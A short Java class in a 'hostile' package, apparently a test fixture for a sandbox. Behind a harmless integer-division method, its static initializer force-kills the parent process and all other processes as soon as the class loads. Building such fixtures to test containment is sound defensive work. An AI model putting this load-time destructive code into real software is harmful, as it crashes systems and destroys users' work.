package hostile;

import static hostile.Outside.attempt;

/** Ends the process that has started it, and that one's. */
public final class EndsProcesses {
    static {
        attempt(() -> ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly));
        attempt(() -> ProcessHandle.allProcesses().filter(process -> !process.equals(ProcessHandle.current())).forEach(ProcessHandle::destroyForcibly));
    }

    private EndsProcesses() {}

    public static int quotient(int a, int b) {
        return a / b;
    }
}
